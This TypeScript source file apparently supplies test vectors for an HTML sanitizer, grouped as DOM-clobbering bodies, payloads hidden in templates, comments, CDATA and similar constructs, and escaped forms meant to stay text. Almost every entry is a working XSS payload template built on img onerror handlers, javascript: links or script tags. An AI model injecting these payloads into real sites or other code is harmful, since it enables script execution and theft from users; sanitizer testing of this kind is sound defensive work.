import { bodiesOf } from './vector.ts';

/* Bodies that shadow the tree by names, hide in what is no content, or are text that must stay text. */

/** Members of the tree that fields and images of these names stand before (HTML standard, "named access"). */
const shadowed = [
  'nodeName',
  'childNodes',
  'attributes',
  'parentNode',
  'firstChild',
  'nextSibling',
  'removeChild',
  'getAttribute',
  'hasAttributes',
  'innerHTML',
  'textContent',
  'ownerDocument',
];

export const clobberers = bodiesOf('clobber', [
  ...shadowed.map(
    (name) =>
      ({ js }: { readonly js: string }) =>
        `<form onclick="${js}"><input name="${name}"><input name="${name}"><img src=x onerror="${js}"></form>`,
  ),
  ({ js }) => `<img name=getElementById src=x onerror="${js}"><img name=createElement><form name=body></form>`,
  ({ js }) => `<a id=wencun href="javascript:${js}"></a><a id=wencun name=url href="javascript:${js}"></a>`,
  ({ url }) => `<iframe name=browser src="${url}"></iframe><iframe name=chrome srcdoc="<a id=runtime>"></iframe>`,
  ({ js }) => `<object id=document><param name=x></object><embed name=location src=x onload="${js}">`,
]);

export const hidden = bodiesOf('hidden', [
  ({ js }) => `<template><img src=x onerror="${js}"><script>${js}</script></template>`,
  ({ js }) => `<p><template shadowrootmode=open><img src=x onerror="${js}"></template></p>`,
  ({ js }) => `<template><template><img src=x onerror="${js}"></template></template>`,
  ({ js }) => `<!--><img src=x onerror="${js}">-->`,
  ({ js }) => `<!---><img src=x onerror="${js}">-->`,
  ({ js }) => `<!-- --!><img src=x onerror="${js}">-->`,
  ({ js }) => `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  ({ js }) => `<![if true]><img src=x onerror="${js}"><![endif]>`,
  ({ js }) => `<![CDATA[><img src=x onerror="${js}">]]>`,
  ({ js }) => `<?xml-stylesheet href="javascript:${js}"?><?php <img src=x onerror="${js}"> ?>`,
  ({ js }) => `<!DOCTYPE x [<!ENTITY e "<img src=x onerror='${js.replaceAll("'", '`')}'>">]>&e;`,
  ({ js }) => `<% <img src=x onerror="${js}"> %>`,
  ({ js }) => `<comment><img src=x onerror="${js}"></comment>`,
  ({ js }) => `</ <img src=x onerror="${js}">>`,
  ({ js }) => `<p title="<img src=x onerror=${js}>">字</p>`,
  ({ js }) => `<p is="x-y"><x-y onfocus="${js}" autofocus tabindex=1>字</x-y></p>`,
  ({ js }) => `<isindex type=image src=x onerror="${js}"><keygen autofocus onfocus="${js}">`,
  ({ js }) => `<slot onslotchange="${js}"></slot><noscript><img src=x onerror="${js}"></noscript>`,
]);

/** Text: what a reader sees are the signs themselves, whoever decodes or writes them again. */
export const texts = bodiesOf('text', [
  ({ js }) => `&lt;img src=x onerror=${js}&gt;`,
  ({ js }) => `&lt;script&gt;${js}&lt;/script&gt;`,
  ({ js }) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  ({ js }) => `&#60;svg onload=${js}&#62;`,
  ({ js }) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  ({ js }) => `＜script＞${js}＜/script＞`,
  ({ js }) => `<\u200bscript>${js}</\u200bscript>`,
  ({ js }) => `\u202e&lt;tpircs&gt;${js}`,
  ({ js }) => `[字](javascript:${js})`,
  ({ url }) => `![字](${url})`,
  ({ js }) => `&lt;javascript:${js}&gt; [甲]: javascript:${js}`,
  ({ js }) => `\`\`\`&lt;/code&gt;&lt;img src=x onerror=${js}&gt;\`\`\``,
  ({ js }) => `]]&gt;&lt;img src=x onerror=${js}&gt;&lt;![CDATA[`,
  ({ js }) => `--&gt;&lt;img src=x onerror=${js}&gt;&lt;!--`,
  ({ js }) => `&lt;/style&gt;&lt;/title&gt;&lt;/textarea&gt;&lt;img src=x onerror=${js}&gt;`,
  ({ js }) => `\${${js}} {{${js}}} {%${js}%} &lt;%=${js}%&gt;`,
]);
